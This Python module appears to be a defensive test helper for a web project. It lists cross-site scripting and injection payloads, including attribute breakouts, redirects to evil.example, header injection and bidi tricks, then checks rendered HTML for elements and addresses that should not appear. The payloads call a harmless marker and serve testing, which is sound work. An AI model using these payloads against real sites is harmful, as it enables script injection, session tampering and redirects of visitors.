"""What hostile networks and sites put into names, codes and addresses, and how to see whether a page fell for it."""

from __future__ import annotations

import unicodedata
from html.parser import HTMLParser
from typing import Any

#: Each breaks out of another place: text, attributes of both quotes, scripts, styles, comments, templates, URLs.
PAYLOADS = (
    "<script>zq7()</script>",
    "</script><script>zq7()</script>",
    "<img src=x onerror=zq7()>",
    "<svg/onload=zq7()>",
    "<svg><animate onbegin=zq7() attributeName=x>",
    '"><b zq7>',
    "'><b zq7>",
    '" onmouseover="zq7()',
    "' onmouseover='zq7()",
    " onfocus=zq7() autofocus ",
    "javascript:zq7()",
    "data:text/html,<script>zq7()</script>",
    "--><zq7>",
    "]]><zq7>",
    "</title><zq7>",
    "</textarea><zq7>",
    "</style><zq7>",
    "</text></svg><zq7>",
    "</option></select><zq7>",
    "<!--<zq7>",
    "<iframe srcdoc='<zq7>'>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><button>",
    "<link rel=stylesheet href=//evil.example>",
    "{{ 7 * 7777 }}{% zq7 %}${zq7}#{zq7}",
    "&lt;zq7&gt;&#60;zq7&#62;",
    "\x1b[31mzq7\x1b]0;title\x07",
    "zq7\u202e\u2066gpj.exe\u2069\u200b",
    "zq7\r\nSet-Cookie: a=b\r\n\r\n<zq7>",
    "zq7\x00\x01\x7f\x9b\x0b\x1c\x85\u2028\u2029\u200e\u061c\u2060\ufeff\u00ad\ufff9\U000e0041\U000e007f\ue000zq7",
    "+ADw-script+AD4-zq7()+ADw-/script+AD4-",
    "zq7" * 1000,
)

#: Characters of outside texts that nothing may pass on: they steer terminals, turn the reading direction, hide words, break lines
#: where nobody sees one, or are half a sign (Unicode, general category).
STEERING = frozenset(
    sign for sign in map(chr, (*range(0xE00A), *range(0xF8F0, 0xE0100)))  # of the private ones a few
    if unicodedata.category(sign) in {"Cc", "Cf", "Cs", "Co", "Zl", "Zp"} and sign not in "\t\n\r"
)  # fmt: skip


class Skeleton(HTMLParser):
    """The elements of a page with the names of their attributes, and every address in them."""

    ADDRESSES = frozenset(
        {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcdoc", "content"}
    )

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: set[tuple[str, tuple[str, ...]]] = set()
        self.addresses: set[tuple[str, str, str]] = set()
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.add((tag, tuple(sorted(name for name, _ in attrs))))
        self.addresses |= {(tag, name, value or "") for name, value in attrs if name in self.ADDRESSES}

    def handle_data(self, data: str) -> None:
        self.text += data


def faults(html: str) -> list[str]:
    """What a page has that no page of ours has, whatever it shows."""
    seen = Skeleton(html)
    wrong = [f"<{tag} {' '.join(names)}>" for tag, names in seen.elements if not harmless(tag, names)]
    wrong += [
        f"{tag} {name}={value[:60]}" for tag, name, value in seen.addresses if not ours(tag, name, value)
    ]
    if "<script" in html and any(tag == "script" and "src" not in names for tag, names in seen.elements):
        wrong.append("a script inside the page")
    return wrong


def harmless(tag: str, names: tuple[str, ...]) -> bool:
    """Whether an element can do nothing by itself and is not one of the payloads' own."""
    own = "zq7" in tag or any("zq7" in name for name in names)
    return (
        not own
        and tag not in {"iframe", "object", "embed", "base", "animate", "foreignobject"}
        and not any(name.startswith("on") or name in {"style", "srcdoc"} for name in names)
    )


def ours(tag: str, name: str, value: str) -> bool:
    """Whether an address of a page leads into the page itself, or to Netflix's help as a plain link."""
    value = value.strip().lower()
    if name == "content":
        return tag == "meta" and "evil" not in value
    if value.startswith(("https://help.netflix.com/", "https://www.netflix.com/")):
        return tag == "a" and name == "href"
    if tag == "a" and name == "href" and value.startswith("https://"):
        return "evil" not in value and "zq7" not in value  # sources of error codes, from our own data
    return (value.startswith(("/", "?", "#")) and not value.startswith(("//", "/\\"))) or not value


def poisoned(data: Any, payload: str, kept: frozenset[str]) -> Any:
    """Every text of a tree with the payload behind it, but for the keys whose words the program chose itself."""
    if isinstance(data, dict):
        return {key: value if key in kept else poisoned(value, payload, kept) for key, value in data.items()}
    if isinstance(data, list):
        return [poisoned(value, payload, kept) for value in data]
    return f"{data} {payload}" if isinstance(data, str) else data
